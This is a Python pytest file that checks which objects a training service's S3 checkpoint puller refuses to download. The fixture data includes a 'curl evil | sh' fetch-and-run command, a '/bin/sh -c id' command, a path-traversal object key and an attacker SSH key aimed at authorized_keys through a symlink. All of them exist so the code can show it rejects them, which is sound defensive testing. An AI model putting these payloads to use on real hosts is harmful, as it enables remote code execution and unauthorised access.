"""s3-pull, the training unit's ExecStartPre, against a moto server: what it refuses to take from S3."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import boto3
import pytest

from tests.fixtures.cdk import REGION
from training_scripts.training.s3pull import pull

BUCKET = "edgeyolo-pull-test"
URI = f"s3://{BUCKET}/checkpoints/run1"


@pytest.fixture()
def s3(aws_env: str):  # type: ignore[no-untyped-def]
    client = boto3.client("s3", region_name=REGION)
    client.create_bucket(Bucket=BUCKET)
    return client


def _put(s3, rel: str, data: bytes) -> None:  # type: ignore[no-untyped-def]
    s3.put_object(Bucket=BUCKET, Key=f"checkpoints/run1/{rel}", Body=data)


def test_empty_host_gets_the_checkpoints_but_never_run_json(s3, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    _put(s3, "x_100.weights", b"w" * 100)
    _put(s3, "metrics.csv", b"iteration,loss\n1,9.0\n")
    _put(s3, "run.json", b'{"command": ["/bin/sh", "-c", "curl evil | sh"], "workdir": "/"}\n')
    run = tmp_path / "run"
    result = pull(s3, URI, run, log=lambda _: None)
    assert sorted(result.downloaded) == ["metrics.csv", "x_100.weights"]
    assert result.excluded == ["run.json"] and not (run / "run.json").exists()
    assert (run / "x_100.weights").read_bytes() == b"w" * 100
    head = s3.head_object(Bucket=BUCKET, Key="checkpoints/run1/x_100.weights")
    assert (run / "x_100.weights").stat().st_mtime == pytest.approx(head["LastModified"].timestamp())
    assert not list(run.glob(".*.part"))


def test_run_json_on_the_host_is_not_replaced_by_the_bucket_copy(s3, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    run = tmp_path / "run"
    run.mkdir()
    (run / "run.json").write_text('{"command": ["python", "-m", "training_scripts", "train"]}\n')
    os.utime(run / "run.json", (0, 0))  # older than anything in the bucket
    _put(s3, "run.json", b'{"command": ["/bin/sh", "-c", "id"]}\n')
    result = pull(s3, URI, run, log=lambda _: None)
    assert result.excluded == ["run.json"]
    assert "training_scripts" in (run / "run.json").read_text()


def test_older_copies_in_s3_do_not_overwrite_newer_local_files(s3, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    _put(s3, "metrics.csv", b"iteration,loss\n1,9.0\n")  # the shorter, older copy
    _put(s3, "x_200.weights", b"new" * 10)
    run = tmp_path / "run"
    run.mkdir()
    newer = b"iteration,loss\n1,9.0\n2,8.5\n3,8.1\n"
    (run / "metrics.csv").write_bytes(newer)
    future = time.time() + 3600
    os.utime(run / "metrics.csv", (future, future))  # written after the upload
    stale = run / "x_200.weights"
    stale.write_bytes(b"old" * 10)
    os.utime(stale, (0, 0))  # older than the object: replaced
    result = pull(s3, URI, run, log=lambda _: None)
    assert result.kept == ["metrics.csv"] and result.downloaded == ["x_200.weights"]
    assert (run / "metrics.csv").read_bytes() == newer
    assert stale.read_bytes() == b"new" * 10
    # a second pull finds everything current
    again = pull(s3, URI, run, log=lambda _: None)
    assert again.downloaded == [] and sorted(again.kept) == ["metrics.csv", "x_200.weights"]


def test_keys_that_leave_the_run_or_follow_a_symlink_are_refused(s3, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    outside = tmp_path / "outside"
    outside.mkdir()
    run = tmp_path / "run"
    run.mkdir()
    (run / "link").symlink_to(outside)
    _put(s3, "../run2/x.weights", b"escape")
    _put(s3, "link/authorized_keys", b"ssh-ed25519 AAAA attacker")
    _put(s3, "ok.weights", b"fine")
    lines: list[str] = []
    result = pull(s3, URI, run, log=lines.append)
    assert sorted(result.refused) == ["../run2/x.weights", "link/authorized_keys"]
    assert result.downloaded == ["ok.weights"]
    assert list(outside.iterdir()) == [] and not (tmp_path / "run2").exists()
    assert sum("refused" in line for line in lines) == 2


def test_cli_prints_the_summary(s3, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    _put(s3, "x_100.weights", b"w")
    _put(s3, "run.json", b"{}")
    proc = subprocess.run(
        [sys.executable, "-m", "training_scripts", "s3-pull", "--run", str(tmp_path / "r"), "--s3-uri", URI],
        capture_output=True, text=True, timeout=120, env=os.environ.copy(), check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[-1] == (
        "s3-pull: pulled 1, kept 0 newer or current, excluded run.json, refused 0"
    )
